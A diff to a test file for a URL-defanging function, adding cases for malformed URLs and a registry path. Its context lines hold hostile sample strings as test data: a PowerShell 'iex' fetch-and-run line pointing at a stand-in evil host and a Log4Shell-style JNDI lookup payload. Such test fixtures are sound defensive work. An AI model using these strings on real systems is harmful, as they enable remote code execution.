@@ -103,6 +103,8 @@ def test_defanged_text_stays_the_same(text: str) -> None:
     ("text", "expected"),
     [
         ("iex http://evil.example/a.ps1", "iex hxxp://evil[.]example/a.ps1"),
+        ("http:///a.example http:\\\\b.example", "hxxp:///a[.]example hxxp:\\\\b[.]example"),
+        ("HKLM:\\\\Software\\a.b", "HKLM:\\\\Software\\a.b"),
         ("HTTPS://u:p@evil.example:8443?x=a.b", "hxxps://u:p[@]evil[.]example:8443?x=a.b"),
         ("${jndi:ldap://198.51.100.7/a}", "${jndi:ldap[:]//198[.]51[.]100[.]7/a}"),
         ("ftp://files.example", "fxp://files[.]example"),
